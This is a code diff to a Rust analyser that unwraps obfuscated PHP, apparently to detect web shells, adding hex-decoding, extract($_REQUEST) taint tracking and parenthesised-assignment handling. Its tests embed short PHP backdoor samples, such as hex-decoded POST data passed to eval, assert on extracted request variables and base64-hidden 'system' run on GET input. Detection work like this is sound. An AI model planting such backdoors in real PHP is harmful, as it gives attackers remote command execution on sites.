@@ -502,6 +502,10 @@ fn transparent(name: &[u8]) -> bool {
                 | b"chr"
                 | b"ord"
                 | b"strval"
+                | b"hexdec"
+                | b"octdec"
+                | b"bindec"
+                | b"base_convert"
                 | b"str_split"
                 | b"sprintf"
                 | b"explode"
@@ -935,6 +939,9 @@ struct Resolver<'t, 'a> {
     hidden_code: bool,
     /// Variables assigned the result of a decoder (`$c = base64_decode(…)`).
     decoded_vars: HashSet<Vec<u8>>,
+    /// `extract($_REQUEST)` ran at the top level: any variable never assigned there holds
+    /// whatever the visitor sent under its name.
+    extracted: bool,
 }
 
 /// An assignment read, stored once the main pass has walked its value (`end`).
@@ -1025,6 +1032,9 @@ impl<'t, 'a> Resolver<'t, 'a> {
             if let Some(v) = self.scopes.first().and_then(|s| s.vars.get(name)) {
                 return self.copied(v);
             }
+        }
+        if top && self.extracted && name != b"this" {
+            return Val::Tainted(Taint::Request);
         }
         Val::Unknown
     }
@@ -1544,8 +1554,11 @@ impl<'t, 'a> Resolver<'t, 'a> {
             _ => None,
         };
         if let Some(Val::Str(code)) = code_arg {
-            // Code decoded at run time and then run: hidden code.
-            self.hidden_code |= args_disguised && self.decodes(i, end);
+            // Code decoded at run time, or assembled from disguised fragments and handed to
+            // eval/assert, then run: hidden code. (`create_function` bodies are assembled from
+            // plain strings by old plugins, so there only decoded code counts.)
+            let eval_like = !name.eq_ignore_ascii_case(b"create_function");
+            self.hidden_code |= args_disguised && (eval_like || self.decodes(i, end));
             let held: usize = self.nested.iter().map(Vec::len).sum();
             if held + code.len() <= MAX_VALUE && self.nested.len() < 16 {
                 self.nested.push(code.clone());
@@ -1925,6 +1938,7 @@ fn resolve_in(src: &[u8], env: &mut Env, nesting: usize, want_plain: bool) -> Re
         fns: functions::Functions::collect(&toks),
         hidden_code: false,
         decoded_vars: HashSet::default(),
+        extracted: false,
     };
     let (mut w, mut plain) = (
         Writer::new(true, false, 1024),
@@ -2016,12 +2030,16 @@ impl<'t, 'a> Resolver<'t, 'a> {
                     self.assign(p);
                 }
             }
-            // `:` ends a `case …:` label or opens an `if (…):` block too.
+            // `:` ends a `case …:` label or opens an `if (…):` block too; an assignment in
+            // parentheses (`if ($c = gzinflate($c))`, `($f = $_GET['f'])`) is one as well.
             let at_start = i == from
                 || matches!(
                     self.tok(i - 1),
                     Some(Tok::Punct(b";" | b"{" | b"}" | b":") | Tok::Html(_))
-                );
+                )
+                || (punct(self.tok(i - 1), b"(")
+                    && matches!(self.tok(i), Some(Tok::Var(_)))
+                    && punct(self.tok(i + 1), b"="));
             if at_start && pending.is_none() && !pending_fn {
                 let body = mode == Mode::Body && self.scopes.len() == base;
                 match self.statement(i, body, w, plain) {
@@ -2084,6 +2102,12 @@ impl<'t, 'a> Resolver<'t, 'a> {
             }
         } else if ident_is(self.tok(i), b"foreach") {
             self.foreach_taint(i);
+        } else if ident_is(self.tok(i), b"extract")
+            && punct(self.tok(i + 1), b"(")
+            && self.scopes.len() <= 1
+        {
+            let what = self.expr(i + 2, 0);
+            self.extracted |= what.val.taint() == Some(Taint::Request);
         }
         if let Some((rhs, target)) = self.assignment(i) {
             let value = self.expr(rhs, 0);
@@ -2421,6 +2445,15 @@ mod tests {
         // own function, unserialized, run.
         let t = text("<?php function x($a, $k) { $o = ''; for ($i = 0; $i < strlen($a); $i++) { $o .= chr(ord($a[$i]) ^ ord($k[$i % 4])); } return $o; } foreach ($_COOKIE as $k => $v) { $d = $v; } $m = @unserialize(x(base64_decode($d), 'abcd')); eval($m['d']);");
         assert!(t.contains("eval($_POST['request']"), "{t}");
+        // a hex-encoded request, decoded pair by pair
+        let t = text("<?php $h = $_POST['p']; for ($i = 0; $i < strlen($h) - 1; $i += 2) { $s .= chr(hexdec($h[$i] . $h[$i + 1])); } @eval($s);");
+        assert!(t.contains("eval($_POST['request']"), "{t}");
+        // extract() of the request makes every unassigned variable the visitor's
+        let t = text("<?php extract($_REQUEST) && @assert(stripslashes($shall));");
+        assert!(t.contains("assert(stripslashes($_POST['request'])"), "{t}");
+        // an assignment in parentheses is read like one on its own line
+        let t = text("<?php if ($c = base64_decode('c3lzdGVt')) { $c($_GET['x']); }");
+        assert!(t.contains("system($_GET"), "{t}");
         // the silencing `@` does not hide what a `$GLOBALS` alias calls
         let t = text("<?php $g = $GLOBALS; $GLOBALS['t'] = 'ini_set'; @$g['t']('log_errors', 0);");
         assert!(t.contains("@ini_set('log_errors'"), "{t}");
